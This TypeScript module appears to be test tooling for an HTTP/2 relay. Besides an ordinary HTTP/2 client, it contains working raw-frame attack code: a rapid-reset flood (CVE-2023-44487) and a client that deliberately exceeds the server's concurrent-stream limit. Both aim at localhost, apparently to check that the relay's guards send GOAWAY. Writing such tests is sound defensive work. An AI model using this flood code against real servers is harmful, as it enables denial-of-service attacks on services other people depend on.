// A real HTTP/2 client (node:http2) for the relay's public HTTPS listener.

import http2 from 'node:http2';
import tls from 'node:tls';

export function h2session(authority: string, tls: { ca?: Buffer; servername?: string; rejectUnauthorized?: boolean } = {}): Promise<http2.ClientHttp2Session> {
  return new Promise((resolve, reject) => {
    const s = http2.connect(authority, tls);
    const t = setTimeout(() => {
      s.destroy();
      reject(new Error(`no HTTP/2 session with ${authority} in 10 s`));
    }, 10_000);
    // Once the server's SETTINGS are in (its limits are then known).
    s.once('remoteSettings', () => {
      clearTimeout(t);
      resolve(s);
    });
    s.once('error', (e) => {
      clearTimeout(t);
      reject(e);
    });
  });
}

export interface H2Reply {
  status: number;
  headers: http2.IncomingHttpHeaders;
  body: string;
}

/** One request on a session; its whole answer (bounded by a 10 s deadline). */
export function h2get(s: http2.ClientHttp2Session, headers: http2.OutgoingHttpHeaders, body?: Buffer | string): Promise<H2Reply> {
  return new Promise((resolve, reject) => {
    const stream = s.request(headers, { endStream: body === undefined });
    const t = setTimeout(() => {
      stream.close(http2.constants.NGHTTP2_CANCEL);
      reject(new Error(`no HTTP/2 answer to ${String(headers[':path'])} in 10 s`));
    }, 10_000);
    let got: http2.IncomingHttpHeaders = {};
    const parts: Buffer[] = [];
    stream.on('response', (h) => (got = h));
    stream.on('data', (c: Buffer) => parts.push(c));
    stream.once('end', () => {
      clearTimeout(t);
      resolve({ status: Number(got[':status']), headers: got, body: Buffer.concat(parts).toString() });
    });
    stream.once('error', (e) => {
      clearTimeout(t);
      reject(e);
    });
    if (body !== undefined) stream.end(body);
  });
}

/** One HTTP/2 frame (RFC 9113 §4.1). */
function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const h = Buffer.alloc(9);
  h.writeUIntBE(payload.length, 0, 3);
  h[3] = type;
  h[4] = flags;
  h.writeUInt32BE(stream, 5);
  return Buffer.concat([h, payload]);
}

/** HPACK: :method GET, :scheme https, :path / (static table) or a literal path, :authority as a literal. */
function getBlock(authority: string, path = '/'): Buffer {
  const auth = Buffer.from(authority);
  const p = Buffer.from(path);
  const pathField = path === '/' ? Buffer.from([0x84]) : Buffer.concat([Buffer.from([0x04, p.length]), p]);
  return Buffer.concat([Buffer.from([0x82, 0x87]), pathField, Buffer.from([0x01, auth.length]), auth]);
}

/**
 * A raw HTTP/2 client connection, frames written by hand (what node's client
 * would refuse to send). `ready` runs once the server's SETTINGS are in and
 * acknowledged; resolves with the GOAWAY error code the server sends (null
 * if the connection ends without one, or at the deadline).
 */
function rawH2(
  o: { port: number; ca: Buffer; servername: string; deadlineMs: number },
  ready: (sock: tls.TLSSocket, finished: () => boolean, pingAck: () => Promise<void>) => void,
): Promise<number | null> {
  return new Promise((resolve, reject) => {
    const sock = tls.connect({ host: '127.0.0.1', port: o.port, ca: o.ca, servername: o.servername, ALPNProtocols: ['h2'] });
    let buf = Buffer.alloc(0);
    let done = false;
    let started = false;
    // Waiters for the next PING ACK; released at the end too, so none hangs.
    let acked: Array<() => void> = [];
    const releaseAcks = () => {
      const w = acked;
      acked = [];
      for (const f of w) f();
    };
    const pingAck = () => new Promise<void>((r) => (done ? r() : acked.push(r)));
    const finish = (goaway: number | null) => {
      if (done) return;
      done = true;
      clearTimeout(t);
      sock.destroy();
      releaseAcks();
      resolve(goaway);
    };
    const t = setTimeout(() => finish(null), o.deadlineMs);
    sock.on('error', (e) => (done ? undefined : started ? finish(null) : reject(e)));
    sock.on('close', () => finish(null));
    sock.once('secureConnect', () => {
      if (sock.alpnProtocol !== 'h2') return reject(new Error(`ALPN chose ${String(sock.alpnProtocol)}, not h2`));
      sock.write(Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(4, 0, 0, Buffer.alloc(0))]));
    });
    sock.on('data', (c: Buffer) => {
      buf = Buffer.concat([buf, c]);
      while (buf.length >= 9) {
        const len = buf.readUIntBE(0, 3);
        if (buf.length < 9 + len) break;
        const type = buf[3]!;
        const flags = buf[4]!;
        const payload = buf.subarray(9, 9 + len);
        buf = buf.subarray(9 + len);
        if (type === 4 && (flags & 1) === 0) {
          sock.write(frame(4, 1, 0, Buffer.alloc(0)));
          if (!started) {
            started = true;
            ready(sock, () => done, pingAck);
          }
        }
        if (type === 6 && (flags & 1) === 1) releaseAcks();
        if (type === 7) return finish(payload.readUInt32BE(4));
      }
    });
  });
}

/**
 * The rapid-reset attack (CVE-2023-44487) in raw frames: each stream is a
 * HEADERS frame for GET / followed at once by RST_STREAM(CANCEL), in one
 * write per batch, as the attack tools send them. Resolves with the GOAWAY
 * error code the server answers with (or null if the connection ends without
 * one), after at most `streams` streams and `deadlineMs`. `hold`: first one
 * ordinary GET of that path, never reset (open when the guard trips if the
 * origin holds its answer).
 */
export async function rapidReset(o: {
  port: number;
  ca: Buffer;
  servername: string;
  authority: string;
  streams: number;
  deadlineMs?: number;
  hold?: string;
  /**
   * Send `paced` streams at a time, then a PING, and the next ones only once
   * it is acknowledged: the server has read them and run what their resets
   * set off before it reads more, so no more than `paced` are ever pending.
   * Unpaced, 50 pairs go per write, as fast as the socket takes them.
   */
  paced?: number;
}): Promise<{ goaway: number | null; sent: number }> {
  let sent = 0;
  const block = getBlock(o.authority);
  const cancel = Buffer.alloc(4);
  cancel.writeUInt32BE(0x8);
  const first = o.hold === undefined ? 1 : 3;
  const perWrite = o.paced ?? 50;
  const goaway = await rawH2({ ...o, deadlineMs: o.deadlineMs ?? 10_000 }, (sock, finished, pingAck) => {
    if (o.hold !== undefined) sock.write(frame(1, 0x5, 1, getBlock(o.authority, o.hold)));
    const burst = () => {
      if (finished()) return;
      const frames: Buffer[] = [];
      for (let i = 0; i < perWrite && sent < o.streams; i++, sent++) {
        const id = 2 * sent + first;
        frames.push(frame(1, 0x5, id, block), frame(3, 0, id, cancel));
      }
      if (frames.length === 0) return;
      if (o.paced === undefined) return void sock.write(Buffer.concat(frames), () => setImmediate(burst));
      const acked = pingAck();
      sock.write(Buffer.concat([...frames, frame(6, 0, 0, Buffer.alloc(8))]));
      void acked.then(burst);
    };
    burst();
  });
  return { goaway, sent };
}

/**
 * A client that ignores SETTINGS_MAX_CONCURRENT_STREAMS: once it has
 * acknowledged the server's SETTINGS, it opens `streams` GET streams in one
 * write. Resolves with the GOAWAY error code (null: the connection ended
 * without one, or nothing within 10 s).
 */
export function pastConcurrentLimit(o: { port: number; ca: Buffer; servername: string; authority: string; streams: number }): Promise<number | null> {
  const block = getBlock(o.authority);
  return rawH2({ ...o, deadlineMs: 10_000 }, (sock) => {
    sock.write(Buffer.concat(Array.from({ length: o.streams }, (_, i) => frame(1, 0x5, 2 * i + 1, block))));
  });
}
